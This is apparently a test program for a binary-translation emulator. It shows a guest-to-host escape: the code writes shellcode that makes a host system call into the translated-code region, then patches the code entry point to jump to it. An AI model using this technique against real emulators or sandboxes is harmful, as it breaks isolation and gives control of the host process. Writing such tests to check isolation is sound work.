/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack.c - a guest's program that takes over the host process it runs in (src/engine/bt/space/layout.h says where its code is), and
 * makes a system call of the host's there: attack NUMBER. What comes of it, the host's side has to see.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#define DOOR 0x74000000UL /* where all translated code is entered; code lies behind it */
#define ROOM 0x7bfff000UL /* the end of that, which nobody has reached yet */

int main(int argc, char **argv)
{
	uint32_t number = argc > 1 ? (uint32_t)atoi(argv[1]) : 0;
	/* mov eax, number; xor edi, edi; xor esi, esi; xor edx, edx; syscall; hlt */
	uint8_t code[] = { 0xb8, 0, 0, 0, 0, 0x31, 0xff, 0x31, 0xf6, 0x31, 0xd2, 0x0f, 0x05, 0xf4 };
	uint64_t jump = 0xe9 | (ROOM - DOOR - 5) << 8; /* JMP, and bytes that nobody comes to */

	memcpy(code + 1, &number, sizeof(number));
	for (unsigned i = 0; i < sizeof(code); i++)
		((volatile uint8_t *)ROOM)[i] = code[i];
	*(volatile uint64_t *)DOOR = jump;
	return 0;
}
